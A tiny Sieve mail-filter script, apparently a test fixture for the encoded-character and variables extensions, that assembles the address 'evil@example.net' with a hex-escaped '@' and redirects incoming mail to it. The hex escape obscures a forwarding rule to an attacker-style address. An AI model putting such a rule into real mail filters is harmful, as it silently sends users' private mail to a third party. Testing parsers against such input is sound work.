require ["encoded-character", "variables"];
set "x" "evil${hex:40}example.net";
redirect "${x}";
